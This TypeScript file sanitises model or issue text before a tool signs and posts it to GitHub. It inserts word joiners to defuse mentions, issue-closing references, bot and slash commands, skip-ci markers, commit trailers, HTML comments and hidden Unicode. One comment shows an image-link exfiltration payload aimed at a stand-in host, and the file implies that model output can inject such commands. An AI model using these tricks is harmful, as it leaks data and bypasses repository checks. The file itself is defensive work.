/**
 * Text of a model, an issue or a repository, made harmless for a page, a commit or a comment that we sign (attack 8, I8).
 *
 * Every rule looks at a few characters and at nothing around them. Whoever decides by Markdown's structure ("inside code this
 * is fine") must parse exactly as GitHub does; a rule without context cannot be led astray. Where a sequence would act, an
 * invisible word joiner is put into it: it reads the same and does nothing.
 */

/** U+2060 WORD JOINER: zero width, no line break, ends every token GitHub or a bot would act on. */
const JOINER = "\u2060";

/**
 * Characters that are not seen or that reorder what is seen: all that Unicode lets a renderer ignore (zero-width and
 * bidirectional controls, tags, fillers, selectors; the emoji selector U+FE0F stays), controls but tab and line feed, the
 * blank Braille pattern, interlinear annotation.
 */
const HIDDEN = /(?![\n\t]|\ufe0f)[\p{Default_Ignorable_Code_Point}\p{Cc}\u2800\ufff9-\ufffb]/gv;

/** Removes what hides or reorders text; line ends become `\n`. */
export const showHidden = (text: string): string => text.replace(/\r\n?|[\u2028\u2029\u0085]/g, "\n").toWellFormed().replace(HIDDEN, "");

/** Where the joiner goes: after `$1` of each match. */
const ACTING: readonly RegExp[] = [
  // @user, @org/team, @everyone, @dependabot merge; after an entity or a backslash it would still be a mention
  /([@＠])(?=\S)/g,
  // #12, owner/repo#12: no closing keyword works and no other issue gets a reference
  /([#＃])(?=\d)/g,
  /(GH-)(?=\d)/gi,
  // links to issues, pull requests, discussions and commits are references too
  /(github\.com)(?=[/:])/gi,
  // tags, HTML comments (and with them forged markers), processing instructions, autolinks
  /(<)(?=[a-z/!?])/gi,
  // entities that spell one of the above: &#64; &commat; &num; &lt;
  /(&)(?=#\d+;?|#x[0-9a-f]+;?|[a-z][a-z0-9]*;)/gi,
  // images are fetched by who looks: `![](https://elsewhere/?text)` would carry text out
  /(!)(?=\[)/g,
  // link definitions, `[//]: # (text)`, are never shown
  /^([ \t>*+-]*\[[^\]\n]*\])(?=:)/gm,
  // slash commands of Prow, of GitLab, of ours
  /^((?:[ \t>*+-]|\d{1,9}[.)])*\/)(?=[a-z])/gim,
  // bors r+, homu try
  /(bors|homu)(?=[ \t])/gi,
  /\b(re(?:check|test|base)|ok to test|(?:re)?test this(?: please)?|add to whitelist)(?=\W|$)/gi,
  // [skip ci] and its kin would turn the checks of the branch off
  /(\[)(?=(?:skip|no)[ -](?:ci|actions)\]|(?:ci|actions)[ -]skip\])/gi,
  /(\*\*\*NO)(?=_CI\*\*\*)/gi,
  // commit trailers: Signed-off-by, Co-authored-by, skip-checks, Release-As, ours
  /^([ \t>]*[a-z][a-z0-9]*(?:-[a-z0-9]+)+)(?=[ \t]*:)/gim,
];

/**
 * Makes text harmless and keeps its lines: no mention, no reference to or closing of an issue, no bot command, no HTML or
 * HTML comment, no image, no trailer, nothing hidden. What it says is still readable, Markdown's own formatting still works.
 * Idempotent: text that went through it once comes back the same.
 */
export function neutralise(text: string): string {
  return ACTING.reduce((safe, pattern) => safe.replace(pattern, `$1${JOINER}`), showHidden(text));
}

/** One line of harmless text, white space collapsed: a title, a commit subject. Empty input gives `fallback`. */
export function neutraliseLine(text: string, fallback: string): string {
  const line = neutralise(showHidden(text).replace(/\s+/g, " ").trim());
  return line === "" ? fallback : line;
}
